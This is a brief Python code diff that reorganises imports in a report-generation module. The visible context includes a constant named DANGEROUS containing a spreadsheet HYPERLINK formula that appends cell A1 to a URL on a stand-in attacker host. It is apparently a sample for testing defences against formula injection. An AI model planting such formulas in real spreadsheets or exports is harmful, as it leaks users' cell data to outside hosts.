@@ -4,9 +4,8 @@ from __future__ import annotations
 
 from datetime import UTC, date, datetime
 from decimal import Decimal
-from typing import Literal
+from typing import TYPE_CHECKING, Literal
 
-from projections.report.language.statuses import GoalStatus
 from projections.report.charts import (
     Chart,
     Cumulative,
@@ -34,6 +33,9 @@ from projections.report.document import (
     Table,
     Tone,
 )
+
+if TYPE_CHECKING:
+    from projections.report.language.statuses import GoalStatus
 
 DANGEROUS = (
     '=HYPERLINK("https://attacker.invalid/?"&A1;"Avaa")',
